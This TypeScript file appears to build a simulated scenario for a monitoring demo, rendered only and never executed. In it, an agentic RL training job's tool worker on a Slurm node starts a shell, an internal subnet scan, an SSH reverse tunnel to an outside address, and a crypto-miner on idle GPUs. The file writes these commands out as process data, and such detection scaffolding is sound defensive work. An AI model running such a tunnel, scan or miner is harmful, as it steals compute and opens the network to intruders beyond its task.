/**
 * The story of the demo's first live minute: inside a declared training job a tool shell starts a foreign process on two
 * of the job's idle devices, with a reverse tunnel and a scan of the internal network beside it. Only rendered: nothing
 * of it runs, and no packet leaves. The external address is one for documentation.
 */
import type { Stage, Story } from './blemishes.ts';
import { reserve, stageNode } from './blemishes.ts';
import { type Pids, slurmCgroup, slurmEnvironment } from './job-processes.ts';
import { buildLoad } from './load-shapes.ts';
import { addProcess, type SimProcess, type SimSocket } from './model.ts';
import type { Random } from './random.ts';
import { buildProcess, type ProcessSpec, personNamed, type SiteNode } from './site-nodes.ts';
import type { SimJob } from './workload.ts';

const HOUR_MS = 3_600_000;
const JOB_ID = '8101';
const TRAINER = '/opt/roll/bin/python3.11';
const TRAINING_DEVICES = [0, 1, 2, 3, 4, 5];
const FOREIGN_DEVICES = [6, 7];
const ALL_DEVICES = [...TRAINING_DEVICES, ...FOREIGN_DEVICES];
const STARTED_HOURS_BEFORE = 9.3;
const GOES_ON_HOURS = 14;

export interface RomeStory extends Story {
  readonly job: SimJob;
  readonly node: SiteNode;
  /** Begins the diversion at `atMs`; adds its processes to the node. */
  divert(random: Random, pids: Pids, atMs: number): void;
}

export function planRome(stage: Stage): RomeStory {
  const node = stageNode(stage, 'slurm', 2);
  const startMs = stage.endMs - STARTED_HOURS_BEFORE * HOUR_MS;
  const endMs = stage.endMs + GOES_ON_HOURS * HOUR_MS;
  const job: SimJob = {
    ...{ source: 'slurm', externalId: JOB_ID, name: 'roll-agentic-rl', person: personNamed('rlagent') },
    ...{ startMs, endMs, shape: 'training', executable: TRAINER, declares: ['/opt/roll/bin/*'] },
    placements: [{ node, devices: ALL_DEVICES }],
    argv: [TRAINER, '-m', 'roll.train', '--config', 'agentic.yaml'],
  };
  const inJob = inJobOf(job);
  let tools: SimProcess | null = null;
  return {
    ...{ fromMs: startMs, job, node, jobs: [job], reserved: reserve(node, ALL_DEVICES, startMs, endMs) },
    play: (random, pids) => {
      tools = startTrainer(random, pids, job, node);
    },
    divert: (random, pids, atMs) => {
      const shell = buildProcess({
        ...inJob(pids.next(node), tools?.pid ?? 1, atMs, '/usr/bin/bash'),
        argv: ['bash', '-c', 'cd /workspace/task-0417 && ./setup.sh'],
      });
      const probe = buildProcess({
        ...inJob(pids.next(node), shell.pid, atMs + 1000, '/usr/bin/python3.11'),
        ...{ argv: ['python3', 'probe.py', '--subnet', '10.20.0.0/24'], sockets: scan(atMs + 1200) },
      });
      const tunnel = buildProcess({
        ...inJob(pids.next(node), shell.pid, atMs + 2000, '/usr/bin/ssh'),
        argv: ['ssh', '-N', '-R', '2222:localhost:22', 'u@198.51.100.7'],
        sockets: [
          {
            ...{ inode: 904_100, state: 'established', fromMs: atMs + 2300, toMs: null },
            ...{ local: '10.20.0.13:41222', remote: '198.51.100.7:22' },
          },
        ],
      });
      const contextMs = atMs + 3500;
      const foreign = buildProcess({
        ...inJob(pids.next(node), shell.pid, atMs + 3000, '/workspace/task-0417/miner'),
        ...{ argv: ['./miner', '--algo', 'kawpow', '--server', '127.0.0.1:3333'], cover: null },
        uses: FOREIGN_DEVICES.map((device) => ({
          ...{ device, fromMs: contextMs, toMs: null, memoryMiB: 5984, type: 'C' },
          load: buildLoad(random, 'flat', contextMs),
        })),
      });
      for (const process of [shell, probe, tunnel, foreign]) addProcess(node, process);
    },
  };
}

/** A process of the job, as the same user, in the same cgroup. */
const inJobOf =
  (job: SimJob) =>
  (pid: number, ppid: number, startMs: number, exePath: string): Omit<ProcessSpec, 'argv'> => ({
    ...{ pid, ppid, startMs, exePath, endMs: job.endMs - 500, uid: job.person.uid },
    ...{ cgroup: slurmCgroup(job.externalId, 'batch'), environ: slurmEnvironment(job) },
  });

/** The declared part: launcher, one worker a device, and the worker that runs tools; returns that one. */
function startTrainer(random: Random, pids: Pids, job: SimJob, node: SiteNode): SimProcess {
  const { startMs, endMs, externalId } = job;
  const inJob = inJobOf(job);
  const stepd = buildProcess({
    ...{
      pid: pids.next(node),
      ppid: 1,
      startMs: startMs + 120,
      endMs,
      uid: 0,
      exePath: '/usr/sbin/slurmstepd',
    },
    argv: [`slurmstepd: [${externalId}.batch]`],
    cgroup: `/system.slice/slurmstepd.scope/job_${externalId}/step_batch/slurm`,
  });
  const script = buildProcess({
    ...inJob(pids.next(node), stepd.pid, startMs + 400, '/usr/bin/bash'),
    argv: ['/bin/bash', `/var/spool/slurmd/job0${externalId}/slurm_script`],
  });
  const trainer = buildProcess({
    ...inJob(pids.next(node), script.pid, startMs + 1000, TRAINER),
    argv: job.argv,
  });
  const cover = { job: externalId, toMs: endMs };
  const workers = TRAINING_DEVICES.map((device) =>
    buildProcess({
      ...inJob(pids.next(node), trainer.pid, startMs + 5000 + device * 40, TRAINER),
      ...{ argv: ['ray::ActorWorker.train_step'], comm: 'ray::ActorWorke', cover },
      uses: [
        {
          ...{ device, fromMs: startMs + 60_000, toMs: endMs - 500, memoryMiB: 63_488, type: 'C' },
          load: buildLoad(random, 'training', startMs),
        },
      ],
    }),
  );
  const tools = buildProcess({
    ...inJob(pids.next(node), trainer.pid, startMs + 6000, TRAINER),
    ...{ argv: ['ray::EnvironmentWorker.run_tool'], comm: 'ray::Environmen', cover },
  });
  for (const process of [stepd, script, trainer, ...workers, tools]) addProcess(node, process);
  return tools;
}

const SCAN_HOSTS = 64;
const SCAN_PORTS = [22, 6379, 8080];
/** An attempt waits for its answer this long. */
const ATTEMPT_MS = 45_000;
const SCAN_SPREAD_MS = 28_000;

function scan(fromMs: number): SimSocket[] {
  return Array.from({ length: SCAN_HOSTS * SCAN_PORTS.length }, (_, index) => {
    const startMs = fromMs + Math.floor((index / (SCAN_HOSTS * SCAN_PORTS.length)) * SCAN_SPREAD_MS);
    const host = (index % SCAN_HOSTS) + 20;
    const port = SCAN_PORTS[Math.floor(index / SCAN_HOSTS)] ?? 22;
    return {
      ...{ inode: 905_000 + index, state: 'syn_sent', fromMs: startMs, toMs: startMs + ATTEMPT_MS },
      ...{ local: `10.20.0.13:${42_000 + index}`, remote: `10.20.0.${host}:${port}` },
    };
  });
}
